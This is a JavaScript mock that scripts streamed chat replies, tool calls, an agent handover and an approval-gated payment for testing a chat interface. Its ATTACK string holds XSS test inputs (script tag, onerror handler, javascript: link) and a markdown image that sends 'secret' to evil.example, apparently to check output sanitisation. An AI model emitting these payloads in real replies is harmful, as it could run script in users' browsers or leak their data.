// The scripted answers of the mock, chosen by the words of the question.

let calls = 0;

export function answerTo(question, { agent, runs, conversation }) {
  const q = question.toLowerCase();
  if (/fail|broken/.test(q))
    return [
      ...say('Here is the beginning of an answer. It will not '),
      { fail: 'The model is busy. Try again in a minute.' },
    ];
  if (/pay|delete|支払/.test(q)) {
    const amount = 1_200;
    return [
      ...say('I have everything I need. '),
      { type: 'start-step' },
      ...ask('start', {
        amount,
        currency: 'EUR',
        to: 'Leek Wholesale Ltd',
        note: 'Invoice 17, due on Friday',
      }),
      ...say('That is settled.'),
    ];
  }
  if (/unknown/.test(q)) {
    return [
      { type: 'start-step' },
      ...ask('unknown-outcome', { amount: 80, currency: 'EUR', to: 'Seed Bank', note: 'Invoice 18' }),
      ...say('Noted.'),
    ];
  }
  if (/busy/.test(q)) {
    return [
      { type: 'data-waiting', data: { reason: 'throttled', seconds: 4 }, transient: true },
      { wait: 4000 },
      ...say('Thank you for waiting. The model is free again.'),
    ];
  }
  if (/drop/.test(q)) return [...say(LONG.slice(0, 400)), { cut: true }, ...say(LONG.slice(400))];
  if (/restart/.test(q)) {
    return [
      ...say(LONG.slice(0, 200)),
      { type: 'data-reconnect', data: {}, transient: true },
      { wait: 60 },
      { cut: true },
      { wait: 500 },
      ...say(LONG.slice(200, 600)),
    ];
  }
  if (/burst/.test(q)) return burst();
  if (/long/.test(q)) return say(LONG.repeat(4));
  if (/markdown|code|table/.test(q)) return say(MARKDOWN);
  if (/attack/.test(q)) return say(ATTACK);
  if (/tool error|frost/.test(q)) {
    return [
      ...step([
        ...tool(
          'frost',
          { city: 'Leeds', nights: 3 },
          undefined,
          'The weather service could not be reached: there is no internet connection.',
        ),
      ]),
      ...say(
        'I could not ask the weather service, so here is the general rule: cover tender plants below 4 °C.',
      ),
    ];
  }
  if (agent === 'concierge' && /cook|recipe|leek|eggs/.test(q)) return handover(question, runs, conversation);
  if (/weather|eggs|leek|大根|omelette/.test(q)) {
    return [
      ...think(
        'The person wants something to cook. I should look at the weather first, since a cold day asks for soup. Then season.',
      ),
      ...step([
        ...tool(
          'weather',
          { city: 'Sapporo' },
          {
            place: 'Sapporo, Hokkaido, Japan',
            now: {
              sky: 'light snow',
              temperatureC: 3.4,
              feelsLikeC: -0.6,
              humidityPercent: 81,
              windKmh: 14.2,
            },
            today: day(0, 'light snow', 5, -2, 60),
            next: [
              day(1, 'partly cloudy', 4, -3, 20),
              day(2, 'clear sky', 6, -4, 5),
              day(3, 'rain', 7, 1, 80),
            ],
          },
        ),
        ...tool(
          'season',
          { month: 'November', hemisphere: 'north' },
          { vegetables: ['leek', 'daikon', 'kabocha'], fruit: ['apple', 'persimmon'] },
        ),
      ]),
      ...say(RECIPE),
    ];
  }
  if (/\d/.test(q)) {
    return [
      ...step(tool('calculator', { expression: '0.17 * 2450' }, { result: 416.5 })),
      ...say('17% of 2,450 is **416.5**.'),
    ];
  }
  return say(
    'I can answer simple things myself, and I bring in a specialist when one is needed:\n\n- **Chef AI** for what to cook\n- **Farm adviser** for what to grow\n\nWhat would you like to do?',
  );
}

function say(words) {
  const id = `t${++calls}`;
  return step([
    { type: 'text-start', id },
    ...pieces(words).map((delta) => ({ type: 'text-delta', id, delta })),
    { type: 'text-end', id },
  ]);
}

/** 2,000 small deltas at once, some 100 KB. */
function burst() {
  const id = `t${++calls}`;
  const words = LONG.repeat(45).slice(0, 100_000);
  const deltas = words.match(/[\s\S]{1,50}/g).map((delta) => ({ type: 'text-delta', id, delta, fast: true }));
  return step([{ type: 'text-start', id }, ...deltas, { type: 'text-end', id }]);
}

function think(words) {
  const id = `r${++calls}`;
  return [
    { type: 'reasoning-start', id },
    ...pieces(words).map((delta) => ({ type: 'reasoning-delta', id, delta })),
    { type: 'reasoning-end', id },
  ];
}

function step(chunks) {
  return [{ type: 'start-step' }, ...chunks, { type: 'finish-step' }];
}

function tool(toolName, input, output, errorText, inner) {
  const toolCallId = `call_${++calls}_${Math.random().toString(36).slice(2, 7)}`;
  const timing = (more) => ({
    type: 'data-tool',
    id: toolCallId,
    data: {
      callId: toolCallId,
      title: inner ? undefined : TITLES[toolName],
      startedAt: new Date().toISOString(),
      ...more,
    },
  });
  return [
    { type: 'tool-input-start', toolCallId, toolName, dynamic: true },
    ...(JSON.stringify(input).match(/.{1,3}/g) ?? []).map((inputTextDelta) => ({
      type: 'tool-input-delta',
      toolCallId,
      inputTextDelta,
    })),
    { type: 'tool-input-available', toolCallId, toolName, input, dynamic: true },
    timing({ state: 'running' }),
    ...(inner ? inner(toolCallId) : [{ wait: 900 }]),
    errorText
      ? { type: 'tool-output-error', toolCallId, errorText, dynamic: true }
      : { type: 'tool-output-available', toolCallId, output, dynamic: true },
    timing({ state: errorText ? 'failed' : 'done', ms: 834 }),
  ];
}

function handover(question, runs, conversation) {
  const runId = `r_child${++calls}`;
  const child = {
    id: runId,
    agent: 'chef',
    model: 'anthropic.claude-sonnet-4-5',
    status: 'completed',
    conversation,
    parts: CHILD,
  };
  runs.set(runId, child);
  const data = (callId, state, tools) => ({
    type: 'data-handover',
    id: callId,
    data: { callId, agent: 'chef', title: 'Chef AI', runId, state, tools },
  });
  return [
    ...step([
      ...tool('ask_chef', { question }, { answer: 'Leek omelette.' }, undefined, (callId) => [
        data(callId, 'running', []),
        { wait: 800 },
        data(callId, 'running', ['weather']),
        { wait: 800 },
        data(callId, 'done', ['weather', 'season']),
      ]),
    ]),
    ...say(
      'Chef AI suggests a **leek omelette**: it is cold today and leeks are in season. Ten minutes, one pan.',
    ),
  ];
}

const TITLES = {
  weather: 'Weather',
  season: 'Seasonal produce',
  calculator: 'Calculator',
  frost: 'Frost risk',
};

const CHILD = [
  { type: 'step-start' },
  {
    type: 'dynamic-tool',
    toolCallId: 'call_child_1',
    toolName: 'weather',
    state: 'output-available',
    input: { city: 'Sapporo' },
    output: { place: 'Sapporo', current: { temperature: 3, condition: 'Snow' } },
  },
  {
    type: 'data-tool',
    id: 'call_child_1',
    data: {
      callId: 'call_child_1',
      title: 'Weather',
      startedAt: '2026-01-01T00:00:00Z',
      ms: 420,
      state: 'done',
    },
  },
  { type: 'text', text: 'A **leek omelette** fits a cold evening.', state: 'done' },
];

function day(ahead, sky, highC, lowC, rainChancePercent) {
  const date = new Date(Date.now() + ahead * 86_400_000).toISOString().slice(0, 10);
  return { date, sky, highC, lowC, rainChancePercent };
}

function pieces(words) {
  return words.match(/[\s\S]{1,12}/g) ?? [];
}

const RECIPE = `## Leek omelette with rice

It is **3 °C and snowing** in Sapporo, so something warm:

1. Slice two leeks and cook them slowly in butter for eight minutes.
2. Beat four eggs with a pinch of salt, pour them over, and let them set on low heat.
3. Serve over hot rice with a little soy sauce.

| Ingredient | Amount | In season |
| --- | ---: | :---: |
| Leeks | 2 | yes |
| Eggs | 4 | – |
| Rice | 300 g | – |

> Keep the green parts of the leek for stock.
`;

const MARKDOWN = `# A page of everything

Text with **bold**, *emphasis*, \`code\`, ~~struck~~ and a [link](https://example.com "Example").

\`\`\`java
/** Where an event stands: seq counts from 1 without gaps within a run. */
public record Stamp(RunId run, long seq, Instant at) {
    Stamp next(Clock clock) {
        return new Stamp(run, seq + 1, clock.instant()); // never reused
    }
}
\`\`\`

## A list

- one
- two
  - nested with \`code\`
- [x] done
- [ ] open

| Agent | Tools | What it is for | Since | Price per thousand | Notes that make this table wide |
| --- | --- | --- | --- | ---: | --- |
| Chef AI | weather, season, convert | Recipes from what is in the kitchen | 2026 | $0.0041 | Answers in the language it is asked in |
| Farm adviser | frost, soil | Crops and what to do this week | 2026 | $0.0038 | Needs the internet for the forecast |

![A picture of a leek](https://example.com/leek.png)

### And a quotation

> An outcrop is where bedrock reaches the surface.

\`\`\`bash
./outcrop start --port 8080
\`\`\`

日本語の段落もきれいに表示されます。**太字**も使えます。
`;

const ATTACK = `<script>alert(1)</script>

<img src=x onerror="alert(1)"> and <b>bold html</b>

[click](javascript:alert(1)) ![pixel](https://evil.example/?q=secret)
`;

const LONG = Array.from(
  { length: 9 },
  (_, index) =>
    `### Layer ${index + 1}\n\nSediment settles grain by grain, and each bed keeps what fell in its time. The lower a bed lies, the older it is, unless something has turned the pile over.\n\n- sandstone\n- *shale*\n- limestone with **fossils**\n\n`,
).join('');

/** A call that a person has to decide about. */
function ask(kind, input) {
  const id = `call_${++calls}`;
  return [
    { type: 'tool-input-start', toolCallId: id, toolName: 'pay', dynamic: true },
    { type: 'tool-input-available', toolCallId: id, toolName: 'pay', input, dynamic: true },
    {
      ask: {
        callId: id,
        kind,
        tool: 'pay',
        title: 'Pay an invoice',
        input,
        reason: 'The amount is over 100.',
      },
    },
  ];
}
